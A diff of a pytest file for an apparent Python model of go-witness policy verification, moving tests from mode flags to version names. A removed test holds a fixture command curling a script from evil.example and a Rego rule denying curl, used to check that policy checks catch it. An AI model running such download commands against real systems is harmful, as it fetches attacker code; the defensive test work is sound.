@@ -1,8 +1,7 @@
-"""Policy.Verify semantics (REFERENCE.md §4.3-4.8) and the v0.10.0 / HEAD differences."""
+"""Policy.Verify semantics (REFERENCE.md §4.3-4.8); release differences are in test_verify_versions.py."""
 
 from __future__ import annotations
 
-import copy
 from typing import Any
 
 import pytest
@@ -13,6 +12,7 @@ from witness_evals.witness.collection import COLLECTION_TYPE
 from witness_evals.witness.errors import InputError
 from witness_evals.witness.rego import RegoSandbox
 from witness_evals.witness.verify import TRUSTED_REGO, MemorySource, SourceCollection
+from witness_evals.witness.versions import NAMES
 
 CMD = "https://witness.dev/attestations/command-run/v0.1"
 GIT = "https://witness.dev/attestations/git/v0.1"
@@ -45,9 +45,9 @@ def test_pass_finds_package_only_through_the_git_backref(world: World) -> None:
     assert "  caused by: no collections found for step package" in shallow.reasons
 
 
-def test_v0100_appends_duplicates_head_deduplicates(world: World) -> None:
-    old = world.verify(mode="v0.10.0")
-    new = world.verify(mode="head")
+def test_v011_appends_duplicates_v012_deduplicates(world: World) -> None:
+    old = world.verify(version="0.11")
+    new = world.verify(version="0.12")
     assert old.passed and new.passed
     assert len(old.steps["build"].passed) == 3  # found again at every depth
     assert len(new.steps["build"].passed) == 1
@@ -67,21 +67,17 @@ def test_collection_name_must_equal_step_name(world: World) -> None:
     assert any("no collections found for step build" in r for r in res.reasons)
 
 
-def test_non_collection_predicate_type_is_rejected(world: World) -> None:
+@pytest.mark.parametrize("version", NAMES)
+def test_non_collection_predicate_type_is_rejected(world: World, version: str) -> None:
     env = world.pipe.steps["build"].envelope
     other = resign(env, world.build_key, lambda s: s.update(predicateType="https://example.com/other/v1"))
     cols = [as_source(other, "b.json"), world.collections()[1]]
-    # v0.10.0 records the rejection but the signed collection also passes (it is in both lists)
-    old = world.verify(collections=cols)
-    assert old.passed
-    assert old.steps["build"].rejected[0].reason == (
+    # every release records the rejection but the signed collection also passes (it is in both
+    # lists): go-witness v0.12.0 policy/policy.go:410-412 still does not skip it
+    res = world.verify(collections=cols, version=version)
+    assert res.passed
+    assert res.steps["build"].rejected[0].reason == (
         "predicate type https://example.com/other/v1 is not a collection predicate type"
-    )
-    res = world.verify(collections=cols, mode="head")
-    assert not res.passed
-    assert (
-        "collection rejected: build, Reason: predicate type https://example.com/other/v1 "
-        "is not a collection predicate type" in res.reasons
     )
     assert COLLECTION_TYPE.startswith("https://witness.testifysec.com/")
 
@@ -90,69 +86,6 @@ def test_memory_source_rejects_duplicate_reference(world: World) -> None:
     cols = world.collections()
     with pytest.raises(InputError, match="references may only appear once in a memory source: build"):
         MemorySource([cols[0], cols[0]])
-
-
-def test_empty_attestations_list_v0100_passes_head_fails(world: World) -> None:
-    pol = world.policy(attestation_types={"build": []})
-    assert world.verify(pol).passed
-    res = world.verify(pol, mode="head")
-    assert not res.passed
-    assert any(
-        "step build declares no required attestations; an empty attestations list is not a valid gate" in r
-        for r in res.reasons
-    )
-
-
-def test_zero_steps_v0100_passes_head_fails(world: World) -> None:
-    pol = world.policy()
-    pol["steps"] = {}
-    assert world.verify(pol).passed
-    assert not world.verify(pol, mode="head").passed
-
-
-def test_artifacts_from_without_overlap_v0100_passes_head_fails(world: World) -> None:
-    env = world.pipe.steps["package"].envelope
-
-    def move(stmt: dict[str, Any]) -> None:
-        for att in stmt["predicate"]["attestations"]:
-            if att["type"].endswith("/material/v0.1"):
-                att["attestation"] = {f"elsewhere/{k}": v for k, v in att["attestation"].items()}
-
-    moved = resign(env, world.package_key, move)
-    cols = [world.collections()[0], as_source(moved, "p.json")]
-    assert world.verify(collections=cols).passed
-    res = world.verify(collections=cols, mode="head")
-    assert not res.passed
-    assert any("no artifacts in common" in r for r in res.reasons)
-
-
-def test_rego_v0100_checks_only_last_attestation_of_a_type_head_checks_all(
-    world: World, sandbox: Any
-) -> None:
-    env = world.pipe.steps["build"].envelope
-
-    def duplicate(stmt: dict[str, Any]) -> None:
-        atts = stmt["predicate"]["attestations"]
-        cmd = next(a for a in atts if a["type"] == CMD)
-        first = copy.deepcopy(cmd)
-        first["attestation"]["cmd"] = ["curl", "http://evil.example/x.sh"]
-        atts.insert(atts.index(cmd), first)
-
-    doubled = resign(env, world.build_key, duplicate)
-    rego = simulate.rego_module(
-        "no curl",
-        'package commandrun.nocurl\n\ndeny[msg] {\n\tinput.cmd[0] == "curl"\n\tmsg := "curl is not allowed"\n}\n',
-    )
-    pol = world.policy(rego={"build": {CMD: [rego]}})
-    cols = [as_source(doubled, "b.json"), world.collections()[1]]
-    assert world.verify(pol, collections=cols, rego=sandbox).passed
-    res = world.verify(pol, collections=cols, rego=sandbox, mode="head")
-    assert not res.passed
-    assert any(
-        f"rego policy evaluation failed for attestor type {CMD}: policy was denied due to: curl is not allowed"
-        in r
-        for r in res.reasons
-    )
 
 
 def test_rego_parse_error_and_invalid_deny_data_reject(world: World) -> None:
@@ -192,9 +125,9 @@ def test_missing_subjects_is_an_invalid_option(world: World) -> None:
     ]
 
 
-def test_mode_is_checked(world: World) -> None:
-    with pytest.raises(InputError, match="unknown mode"):
-        world.verify(mode="v0.9")
+def test_version_is_checked(world: World) -> None:
+    with pytest.raises(InputError, match=r"unknown witness version '0.9' \(choose one of 0.10, 0.11, 0.12\)"):
+        world.verify(version="0.9")
 
 
 def test_source_collection_indexes(world: World) -> None:
